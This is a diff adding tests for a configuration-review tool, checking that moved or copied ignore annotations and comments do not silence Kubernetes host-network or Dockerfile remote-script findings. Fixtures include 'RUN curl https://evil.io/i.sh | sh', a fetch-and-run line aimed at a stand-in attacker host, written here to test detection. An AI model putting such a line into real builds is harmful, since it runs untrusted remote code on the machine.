@@ -325,6 +325,41 @@ describe('a review', () => {
     expect(result.considered.shown.map(({ head }) => head.ruleId)).toContain('compose/privileged-container');
   });
 
+  const pod = (name: string, annotation: string, context: string): string =>
+    `---\napiVersion: v1\nkind: Pod\nmetadata:\n  name: ${name}\n  annotations: {${annotation}}\nspec:\n  containers:\n    - name: app\n      image: a\n      securityContext: {${context}}\n`;
+
+  test.each([
+    ['our own', 'tidewaiter.dev/ignore.kubernetes.host-network: "agent"'],
+    ['of another tool', 'ignore-check.kube-linter.io/host-network: "agent"'],
+  ])('counts no annotation, %s, that is moved to another object', async (_, annotation) => {
+    const host = (text: string): string => text.replace('spec:\n', 'spec:\n  hostNetwork: true\n');
+    const base = host(pod('agent', annotation, '')) + pod('web', '', '');
+    const head = pod('agent', '', '') + host(pod('web', annotation, ''));
+    const result = await reviewChange({ base: { 'a.yaml': base }, head: { 'a.yaml': head } });
+    expect(result.verdict.mayMerge).toBe(false);
+    expect(result.considered.shown.map(({ head: finding }) => `${finding.ruleId} ${finding.location.subject}`)).toContain(
+      'kubernetes/host-network Pod/web',
+    );
+  });
+
+  test('counts none that is moved to another stage, or copied over another step', async () => {
+    const comment = '# tidewaiter: ignore[dockerfile/remote-script-executed] -- vendor\n';
+    const vendor = `${comment}RUN curl https://vendor.io/i.sh | sh\n`;
+    const evil = 'RUN curl https://evil.io/i.sh | sh\n';
+    const base = `FROM a:1.2 AS build\n${vendor}FROM a:1.2\nUSER 1\n`;
+    for (const head of [
+      `FROM a:1.2 AS build\nFROM a:1.2\n${comment}${evil}USER 1\n`,
+      `FROM a:1.2 AS build\n${vendor}FROM a:1.2\n${comment}${evil}USER 1\n`,
+      `FROM a:1.2 AS build\n${comment}${evil}FROM a:1.2\nUSER 1\n`,
+    ]) {
+      const result = await reviewChange({ base: { Dockerfile: base }, head: { Dockerfile: head } });
+      expect(result.verdict.mayMerge, head).toBe(false);
+    }
+    const newer = base.replace('i.sh', 'v2/i.sh');
+    const result = await reviewChange({ base: { Dockerfile: base }, head: { Dockerfile: newer } });
+    expect(result.verdict.mayMerge).toBe(true);
+  });
+
   test('counts one for what it silenced, wherever both go in the file', async () => {
     const one = `${ignored}${service('probe', 'privileged: true')}`;
     const result = await reviewChange({
